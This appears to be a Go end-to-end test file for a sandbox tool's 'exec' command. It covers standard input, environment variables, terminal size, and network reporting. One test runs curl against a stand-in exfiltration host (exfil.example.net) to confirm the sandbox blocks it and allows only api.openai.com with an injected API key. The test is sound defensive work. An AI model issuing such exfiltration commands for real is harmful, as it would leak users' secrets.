//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"strings"
	"syscall"
	"testing"

	"github.com/creack/pty"
)

// TestExecEntersARun runs further commands in a running sandbox, from a process that did not start it.
func TestExecEntersARun(t *testing.T) {
	w := newWorld(t, "api.openai.com")
	w.set("plain", "OPENAI_API_KEY", openaiKey)
	kill, wait := w.background(t, agentProject(t, `echo mine > /tmp/note; echo ready; exec sleep 1000`, "secrets: [OPENAI_API_KEY]\n"))
	id := w.runs(t)[0]
	for _, tt := range []struct {
		name, stdin string
		args        []string
		code        int
		stdout      string
	}{
		{"is the agent", "", []string{id, "--", "sh", "-c", "id -un; pwd; cat /tmp/note; exit 5"}, 5, "agent\n/workspace\nmine\n"},
		{"reads standard input", "from outside\n", []string{id[:6], "--", "cat"}, 0, "from outside\n"},
		{"takes variables and a folder", "", []string{"--env", "A=b", "--dir", "/tmp", id, "--", "sh", "-c", "echo $A; pwd"}, 0, "b\n/tmp\n"},
		{"says that there is no such command", "", []string{id, "--", "no-such-command"}, 127, ""},
	} {
		t.Run("it "+tt.name, func(t *testing.T) {
			r := w.superserve(tt.stdin, append([]string{"exec"}, tt.args...)...)
			if r.code != tt.code || r.stdout != tt.stdout {
				t.Errorf("exit %d, stdout %q; want %d, %q\nstderr: %s", r.code, r.stdout, tt.code, tt.stdout, r.stderr)
			}
		})
	}
	r := w.superserve("", "exec", id, "--", "sh", "-c", `curl -s -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/echo; curl -s https://exfil.example.net/`)
	w.wantClean(t, "stdout", r.stdout)
	if reqs := w.requests(); len(reqs) != 1 || reqs[0].Header.Get("Authorization") != "Bearer "+openaiKey {
		t.Errorf("upstream saw %+v\nstdout: %s\nstderr: %s", reqs, r.stdout, r.stderr)
	}
	t.Run("it has a terminal", func(t *testing.T) { w.wantTerminal(t, id) })
	w.wantReached(t, id)
	kill(syscall.SIGTERM)
	wait()
	if r := w.superserve("", "exec", id, "--", "true"); r.code != 1 || !strings.Contains(r.stderr, "has ended already") {
		t.Errorf("after the end: exit %d\n%s", r.code, r.stderr)
	}
}

// wantTerminal talks to a shell on a terminal of 33 by 99.
func (w *world) wantTerminal(t *testing.T, id string) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	cmd := w.command(ctx, "exec", id, "--", "sh")
	screen, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 33, Cols: 99})
	if err != nil {
		t.Fatal(err)
	}
	defer screen.Close()
	var shown strings.Builder
	answers := []string{"stty size\r", "cat\r\x03", "exit 6\r"} // each at a prompt; Ctrl-C is cat's
	for in := bufio.NewReader(screen); ; {
		b, err := in.ReadByte() // EIO at the end
		if err != nil {
			break
		}
		shown.WriteByte(b)
		if strings.HasSuffix(shown.String(), "$ ") && len(answers) > 0 {
			io.WriteString(screen, answers[0])
			answers = answers[1:]
		}
	}
	cmd.Wait()
	if code := cmd.ProcessState.ExitCode(); code != 6 || !strings.Contains(shown.String(), "33 99") {
		t.Errorf("exit %d, shown %q", code, shown.String())
	}
}

// wantReached looks at what ps says of the run's network.
func (w *world) wantReached(t *testing.T, id string) {
	t.Helper()
	var rows []struct {
		ID      string   `json:"id"`
		Reached []string `json:"reached"`
		Refused int      `json:"refused"`
	}
	r := w.superserve("", "ps", "--json")
	if err := json.Unmarshal([]byte(r.stdout), &rows); err != nil || len(rows) != 1 || rows[0].ID != id {
		t.Fatalf("ps --json: %v\n%s%s", err, r.stdout, r.stderr)
	}
	if len(rows[0].Reached) != 1 || rows[0].Reached[0] != "api.openai.com" {
		t.Errorf("reached %q", rows[0].Reached)
	}
	if r := w.superserve("", "ps"); !strings.Contains(r.stdout, "api.openai.com") {
		t.Errorf("ps:\n%s", r.stdout)
	}
}
